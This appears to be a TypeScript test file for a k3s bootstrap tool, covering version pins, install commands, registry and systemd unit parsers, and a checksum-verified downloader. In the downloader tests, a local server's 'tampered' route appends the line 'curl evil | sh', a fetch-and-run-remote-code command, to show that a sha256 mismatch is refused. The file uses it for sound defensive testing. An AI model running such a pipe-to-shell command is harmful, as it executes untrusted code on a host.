// Step 20 (k3s) builders and parsers, the pinned artifacts, and lib/download.mts against a local HTTP server.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createHash } from 'node:crypto';
import {
  registriesYaml,
  mirrorNames,
  parseK3sVersion,
  parseExecStart,
  execStartDrift,
  parseHostsToml,
  hostsTomlProblems,
  installArgv,
  installEnv,
  nodeReadyArgv,
  serverArgs,
  networkChangeProblem,
} from '../../bootstrap/lib/k3s.mts';
import {
  downloadVerified,
  sourceHint,
  serverArch,
  helmStampContent,
  parseHelmStamp,
} from '../../bootstrap/lib/download.mts';
import { resolveArtifact } from '../../bootstrap/lib/artifacts.mts';
import { K3S_INSTALL, K3S_VERSION, HELM, NODE, comparePinVersions } from '../../bootstrap/lib/versions.mts';
import { OperationError } from '../../bootstrap/lib/errors.mts';
import { hostConfigs, renderHostsToml } from '../fakes/k3s-registries.mts';

// ---- pins ---------------------------------------------------------------------------------------------------------

test('the pins: k3s version shape, the install script by commit URL, helm tarballs per architecture', () => {
  assert.match(K3S_VERSION, /^v\d+\.\d+\.\d+\+k3s\d+$/);
  const script = resolveArtifact(K3S_INSTALL, 'x64', undefined, undefined);
  assert.match(script.url, /^https:\/\/raw\.githubusercontent\.com\/k3s-io\/k3s\/[0-9a-f]{40}\/install\.sh$/);
  assert.equal(
    resolveArtifact(K3S_INSTALL, 'arm64', undefined, undefined).sha256,
    script.sha256,
    'one script for both',
  );
  assert.equal(
    resolveArtifact(HELM, 'x64', undefined, undefined).url,
    `https://get.helm.sh/helm-${HELM.version}-linux-amd64.tar.gz`,
  );
  assert.equal(
    resolveArtifact(HELM, 'arm64', undefined, undefined).url,
    `https://get.helm.sh/helm-${HELM.version}-linux-arm64.tar.gz`,
  );
  assert.deepEqual(HELM.member, { x64: 'linux-amd64/helm', arm64: 'linux-arm64/helm' });
  assert.notEqual(HELM.sha256.x64, HELM.sha256.arm64);
  // NODE (path set, no member) resolves as before.
  assert.equal(
    resolveArtifact(NODE, 'x64', undefined, undefined).url,
    `https://nodejs.org/dist/v${NODE.version}/node-v${NODE.version}-linux-x64.tar.xz`,
  );
  assert.equal(
    resolveArtifact(HELM, 'x64', 'http://10.0.0.1:8080/m/', undefined).url,
    `http://10.0.0.1:8080/m/helm/helm-${HELM.version}-linux-amd64.tar.gz`,
  );
  assert.equal(serverArch('x64'), 'x64');
  assert.throws(() => serverArch('ia32'), /unsupported CPU architecture ia32/);
});

// ---- builders -----------------------------------------------------------------------------------------------------

test('install command: the local script, server flags as argv, the version in the environment', () => {
  assert.deepEqual(installArgv('/tmp/x/install.sh', NETS), [
    'sh',
    '/tmp/x/install.sh',
    'server',
    '--write-kubeconfig-mode',
    '600',
    '--cluster-cidr',
    '10.42.0.0/16',
    '--service-cidr',
    '10.43.0.0/16',
  ]);
  assert.deepEqual(installEnv(false), { INSTALL_K3S_VERSION: K3S_VERSION });
  assert.deepEqual(installEnv(true), { INSTALL_K3S_VERSION: K3S_VERSION, INSTALL_K3S_FORCE_RESTART: 'true' });
  assert.ok(!serverArgs(NETS).some((a) => a.startsWith('--disable')), 'Traefik, ServiceLB and local-path stay');
  assert.deepEqual(nodeReadyArgv(300), [
    '/usr/local/bin/k3s',
    'kubectl',
    'wait',
    '--for=condition=Ready',
    'node',
    '--all',
    '--timeout=300s',
  ]);
});

test('registries.yaml: both names to the loopback endpoint over http, and k3s would write an http hosts.toml for it', () => {
  const y = registriesYaml(5123);
  assert.deepEqual(mirrorNames(5123), ['registry.codex-k8s.internal:5123', '127.0.0.1:5123']);
  assert.match(
    y,
    /^mirrors:\n {2}"registry\.codex-k8s\.internal:5123":\n {4}endpoint:\n {6}- "http:\/\/127\.0\.0\.1:5123"\n {2}"127\.0\.0\.1:5123":\n {4}endpoint:\n {6}- "http:\/\/127\.0\.0\.1:5123"\n$/m,
  );
  const generated = hostConfigs(y, false);
  const internal = generated.get('registry.codex-k8s.internal:5123');
  assert.ok(internal);
  for (const m of mirrorNames(5123)) {
    const cfg = generated.get(m);
    assert.deepEqual(hostsTomlProblems(m, cfg ? renderHostsToml(cfg) : undefined, 5123), [], m);
  }
});

// ---- parsers ------------------------------------------------------------------------------------------------------

test('comparePinVersions orders k3s versions vX.Y.Z+k3sN (step 20 refuses a downgrade by it), k3s revision included; anything else is not comparable', () => {
  assert.ok((comparePinVersions('v1.36.1+k3s1', 'v1.36.2+k3s1') as number) < 0);
  assert.ok((comparePinVersions('v1.36.2+k3s2', 'v1.36.2+k3s1') as number) > 0);
  assert.ok((comparePinVersions('v1.37.0+k3s1', 'v1.36.10+k3s1') as number) > 0, 'numbers, not strings');
  assert.equal(comparePinVersions('v1.36.2+k3s1', 'v1.36.2+k3s1'), 0);
  assert.equal(comparePinVersions('v1.36.2', 'v1.36.2+k3s1'), undefined);
  assert.equal(comparePinVersions('latest', 'v1.36.2+k3s1'), undefined);
});

test('parseK3sVersion reads `k3s --version`', () => {
  assert.equal(parseK3sVersion('k3s version v1.36.2+k3s1 (1d2a3b4c)\ngo version go1.26.4\n'), 'v1.36.2+k3s1');
  assert.equal(parseK3sVersion('bash: k3s: command not found\n'), undefined);
});

const NETS = { podCidr: '10.42.0.0/16', serviceCidr: '10.43.0.0/16' };
const NET_ARGS = ['--cluster-cidr', '10.42.0.0/16', '--service-cidr', '10.43.0.0/16'];

test('parseExecStart + execStartDrift: the unit the real install script writes, and what drifts', () => {
  const real = [
    '[Service]',
    'Type=notify',
    'ExecStart=/usr/local/bin/k3s \\',
    '    server \\',
    "\t'--write-kubeconfig-mode' \\",
    "\t'600' \\",
    "\t'--cluster-cidr' \\",
    "\t'10.42.0.0/16' \\",
    "\t'--service-cidr' \\",
    "\t'10.43.0.0/16' \\",
    '',
    '',
  ].join('\n');
  assert.deepEqual(parseExecStart(real), [
    '/usr/local/bin/k3s',
    'server',
    '--write-kubeconfig-mode',
    '600',
    ...NET_ARGS,
  ]);
  assert.deepEqual(execStartDrift(parseExecStart(real), NETS), []);
  const double =
    "ExecStart=/usr/local/bin/k3s \\\n\t'server' \\\n\t'--write-kubeconfig-mode' \\\n\t'600' \\\n\t'--cluster-cidr=10.42.0.0/16' \\\n\t'--service-cidr' \\\n\t'10.43.0.0/16'\n";
  assert.deepEqual(execStartDrift(parseExecStart(double), NETS), []);
  assert.deepEqual(
    execStartDrift(['/usr/local/bin/k3s', 'server', '--write-kubeconfig-mode=0600', ...NET_ARGS], NETS),
    [],
  );
  assert.deepEqual(
    execStartDrift(
      [
        '/usr/local/bin/k3s',
        'server',
        '--disable',
        'traefik',
        '--write-kubeconfig-mode=644',
        '--cluster-cidr',
        '10.52.0.0/16',
      ],
      NETS,
    ),
    [
      '/etc/systemd/system/k3s.service: --write-kubeconfig-mode is 644, want 600',
      '/etc/systemd/system/k3s.service: --cluster-cidr is 10.52.0.0/16, want 10.42.0.0/16',
      '/etc/systemd/system/k3s.service: --service-cidr is not set, want 10.43.0.0/16',
      '/etc/systemd/system/k3s.service: --disable traefik, want it kept (Traefik, ServiceLB and local-path are used by later steps)',
    ],
  );
  assert.deepEqual(execStartDrift(['/usr/local/bin/k3s', 'agent'], NETS), [
    '/etc/systemd/system/k3s.service runs "agent", want "server"',
    '/etc/systemd/system/k3s.service: --write-kubeconfig-mode is not set, want 600',
    '/etc/systemd/system/k3s.service: --cluster-cidr is not set, want 10.42.0.0/16',
    '/etc/systemd/system/k3s.service: --service-cidr is not set, want 10.43.0.0/16',
  ]);
  assert.deepEqual(execStartDrift(undefined, NETS), ['/etc/systemd/system/k3s.service has no ExecStart']);
  assert.equal(parseExecStart('[Unit]\n'), undefined);
});

test('hostsTomlProblems: http passes, https (k3s #12551) and a missing entry fail; 127.0.0.1 needs no file', () => {
  const good =
    '# File generated by k3s. DO NOT EDIT.\nserver = "https://registry.codex-k8s.internal:5000/v2"\ncapabilities = ["pull", "resolve", "push"]\n\n[host."http://127.0.0.1:5000/v2"]\n  capabilities = ["pull", "resolve"]\n';
  assert.deepEqual(parseHostsToml(good), {
    server: 'https://registry.codex-k8s.internal:5000/v2',
    hosts: ['http://127.0.0.1:5000/v2'],
  });
  assert.deepEqual(hostsTomlProblems('registry.codex-k8s.internal:5000', good, 5000), []);
  const bad = good.replace('[host."http://', '[host."https://');
  assert.deepEqual(hostsTomlProblems('registry.codex-k8s.internal:5000', bad, 5000), [
    '/var/lib/rancher/k3s/agent/etc/containerd/certs.d/registry.codex-k8s.internal:5000/hosts.toml uses https://127.0.0.1:5000/v2, want http://127.0.0.1:5000 (k3s #12551)',
  ]);
  assert.match(
    hostsTomlProblems('registry.codex-k8s.internal:5000', undefined, 5000)[0] ?? '',
    /hosts\.toml is missing/,
  );
  assert.match(
    hostsTomlProblems('registry.codex-k8s.internal:5000', good, 5001)[0] ?? '',
    /has no \[host\."http:\/\/127\.0\.0\.1:5001\/v2"\] entry/,
  );
  assert.deepEqual(hostsTomlProblems('127.0.0.1:5000', undefined, 5000), []);
  assert.match(hostsTomlProblems('127.0.0.1:5000', 'server = "https://127.0.0.1:5000/v2"\n', 5000)[0] ?? '', /#12551/);
  // What the double writes with its https fault knob is caught.
  const faulted = hostConfigs(registriesYaml(5000), true).get('registry.codex-k8s.internal:5000');
  assert.ok(faulted);
  assert.match(hostsTomlProblems('registry.codex-k8s.internal:5000', renderHostsToml(faulted), 5000).join(), /#12551/);
});

test('helm stamp round trip', () => {
  const a = 'a'.repeat(64);
  const b = 'b'.repeat(64);
  assert.deepEqual(parseHelmStamp(helmStampContent(a, b)), { tarball: a, binary: b });
  assert.deepEqual(parseHelmStamp(undefined), {});
  assert.deepEqual(parseHelmStamp('tarball-sha256=nothex\n'), { tarball: undefined, binary: undefined });
});

// ---- downloads against a local server ----------------------------------------------------------------------------

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'ck8s-download-'));
const body = Buffer.from('#!/bin/sh\necho pinned installer\n');
const sha = createHash('sha256').update(body).digest('hex');
const hits: string[] = [];
let flaky = 0;
const server = http.createServer((req, res) => {
  hits.push(req.url ?? '');
  if (req.url === '/flaky/install.sh' && flaky-- > 0) {
    res.writeHead(503).end('busy');
    return;
  }
  if (req.url === '/ok/install.sh' || req.url === '/flaky/install.sh' || req.url === '/mirror/k3s-install/install.sh') {
    res.writeHead(200, { 'content-type': 'text/plain' }).end(body);
    return;
  }
  if (req.url === '/tampered/install.sh') {
    res.writeHead(200).end(Buffer.concat([body, Buffer.from('curl evil | sh\n')]));
    return;
  }
  res.writeHead(404).end('not found');
});
await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
after(() => {
  server.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

const resolved = (url: string, sha256 = sha) => ({
  name: 'k3s-install',
  version: 'abc',
  arch: 'x64' as const,
  url,
  sha256,
});

test('downloadVerified: streams, checks the sha256, moves into place with the mode', async () => {
  const dest = path.join(tmp, 'a', 'install.sh');
  const r = await downloadVerified(resolved(`${base}/ok/install.sh`), dest, { mode: 0o700 });
  assert.deepEqual(r, { path: dest, sha256: sha, bytes: body.length, attempts: 1 });
  assert.deepEqual(fs.readFileSync(dest), body);
  assert.equal(fs.statSync(dest).mode & 0o777, 0o700);
  assert.deepEqual(fs.readdirSync(path.dirname(dest)), ['install.sh'], 'no temp file left');
});

test('downloadVerified: a wrong checksum names URL, expected and actual, the settings; nothing lands, no retry', async () => {
  const dest = path.join(tmp, 'b', 'install.sh');
  fs.mkdirSync(path.dirname(dest), { recursive: true });
  fs.writeFileSync(dest, 'previous\n');
  const before = hits.length;
  const url = `${base}/tampered/install.sh`;
  await assert.rejects(
    downloadVerified(resolved(url), dest, { mirror: `${base}/mirror`, attempts: 3, retryDelayMs: 1 }),
    (e: unknown) => {
      assert.ok(e instanceof OperationError);
      assert.match(
        e.message,
        new RegExp(
          `^sha256 mismatch for k3s-install abc \\(x64\\) from ${url.replace(/[.]/g, '\\.')}: expected ${sha}, got [0-9a-f]{64} \\(\\d+ bytes\\); nothing was installed$`,
        ),
      );
      assert.match(e.hint ?? '', /CODEXK8S_ARTIFACT_MIRROR=http:\/\/127\.0\.0\.1:\d+\/mirror/);
      assert.match(e.hint ?? '', /CODEXK8S_ARTIFACT_SHA256_OVERRIDES=k3s-install:x64=<sha256>/);
      return true;
    },
  );
  assert.equal(hits.length - before, 1, 'a checksum mismatch is not retried');
  assert.equal(fs.readFileSync(dest, 'utf8'), 'previous\n', 'the previous file is untouched');
  assert.deepEqual(fs.readdirSync(path.dirname(dest)), ['install.sh']);
});

test('downloadVerified: retries 5xx (bounded), fails 404 at once, gives up after the last attempt', async () => {
  flaky = 2;
  const r = await downloadVerified(resolved(`${base}/flaky/install.sh`), path.join(tmp, 'c', 'install.sh'), {
    attempts: 3,
    retryDelayMs: 1,
  });
  assert.equal(r.attempts, 3);

  const before = hits.length;
  await assert.rejects(
    downloadVerified(resolved(`${base}/missing/install.sh`), path.join(tmp, 'd', 'x'), {
      attempts: 3,
      retryDelayMs: 1,
    }),
    /failed: HTTP 404 Not Found/,
  );
  assert.equal(hits.length - before, 1);

  flaky = 10;
  await assert.rejects(
    downloadVerified(resolved(`${base}/flaky/install.sh`), path.join(tmp, 'e', 'x'), { attempts: 2, retryDelayMs: 1 }),
    /failed after 2 attempts: HTTP 503/,
  );
  flaky = 0;
  const closed = http.createServer();
  await new Promise<void>((r) => closed.listen(0, '127.0.0.1', r));
  const port = (closed.address() as AddressInfo).port;
  await new Promise<void>((r) => closed.close(() => r()));
  await assert.rejects(
    downloadVerified(resolved(`http://127.0.0.1:${port}/nothing`), path.join(tmp, 'f', 'x'), {
      attempts: 2,
      retryDelayMs: 1,
    }),
    /failed after 2 attempts: ECONNREFUSED/,
  );
});

test('a mirror serves <mirror>/<name>/<file>; an override replaces the pinned sum and the hint says so', async () => {
  const r = resolveArtifact(K3S_INSTALL, 'x64', `${base}/mirror/`, { 'k3s-install:x64': sha });
  assert.equal(r.url, `${base}/mirror/k3s-install/install.sh`);
  assert.equal(r.overriddenFrom, K3S_INSTALL.sha256.x64);
  const got = await downloadVerified(r, path.join(tmp, 'g', 'install.sh'));
  assert.equal(got.sha256, sha);
  assert.match(
    sourceHint(r, `${base}/mirror/`),
    /CODEXK8S_ARTIFACT_SHA256_OVERRIDES \(k3s-install:x64\), pinned is [0-9a-f]{64}/,
  );
  // Without the override the mirror's bytes do not match the pin: refused.
  await assert.rejects(
    downloadVerified(
      resolveArtifact(K3S_INSTALL, 'x64', `${base}/mirror`, undefined),
      path.join(tmp, 'h', 'install.sh'),
    ),
    /sha256 mismatch/,
  );
});

test('networks: an existing cluster is never re-installed onto other pod or service networks', () => {
  const k3s = ['/usr/local/bin/k3s', 'server', '--write-kubeconfig-mode', '600'];
  assert.equal(
    networkChangeProblem(undefined, { podCidr: '10.52.0.0/16', serviceCidr: '10.53.0.0/16' }),
    undefined,
    'nothing installed: any networks',
  );
  assert.equal(
    networkChangeProblem(k3s, NETS),
    undefined,
    'a unit without the flags runs on the defaults, which are wanted',
  );
  assert.equal(networkChangeProblem([...k3s, ...NET_ARGS], NETS), undefined);
  assert.equal(
    networkChangeProblem(k3s, { podCidr: '10.52.0.0/16', serviceCidr: '10.43.0.0/16' }),
    'this k3s cluster was created with the pod network 10.42.0.0/16 (CODEXK8S_POD_CIDR says 10.52.0.0/16); k3s cannot change them',
  );
  assert.match(
    networkChangeProblem([...k3s, '--cluster-cidr=10.52.0.0/16', '--service-cidr', '10.53.0.0/16'], NETS) ?? '',
    /pod network 10\.52\.0\.0\/16 .* and the service network 10\.53\.0\.0\/16/,
  );
});
